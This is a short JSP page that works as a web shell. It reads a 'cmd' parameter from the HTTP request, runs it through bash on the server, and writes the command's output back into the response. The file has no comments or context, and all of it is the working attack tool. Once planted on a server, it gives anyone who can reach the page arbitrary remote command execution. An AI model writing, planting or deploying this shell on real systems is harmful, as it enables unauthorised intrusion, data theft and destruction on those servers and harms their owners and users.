<%@ page import="java.util.*,java.io.*"%>
<%
if (request.getParameter("cmd") != null) {
    Process p = Runtime.getRuntime().exec(new String[]{"bash", "-c", request.getParameter("cmd")});
    Scanner s = new Scanner(p.getInputStream()).useDelimiter("\\A");
    out.println(s.hasNext() ? s.next() : "");
}
%>
